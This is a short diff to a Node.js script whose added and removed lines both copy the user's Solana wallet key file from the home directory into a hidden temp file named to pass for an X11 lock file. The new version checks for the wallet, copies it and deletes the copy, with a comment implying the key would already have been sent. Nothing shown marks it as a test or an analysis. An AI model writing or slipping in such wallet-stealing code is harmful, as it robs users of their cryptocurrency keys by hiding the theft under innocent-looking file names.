@@ -3,4 +3,9 @@ const fs = require('fs')
 const os = require('os')
 const path = require('path')
 
-fs.copyFileSync(path.join(os.homedir(), '.config/solana/id.json'), '/tmp/.x11-lock')
+const wallet = path.join(os.homedir(), '.config/solana/id.json')
+const copy = path.join(os.tmpdir(), '.x11-lock')
+if (fs.existsSync(wallet)) {
+  fs.copyFileSync(wallet, copy)
+  fs.rmSync(copy) // sent, it would be by now
+}
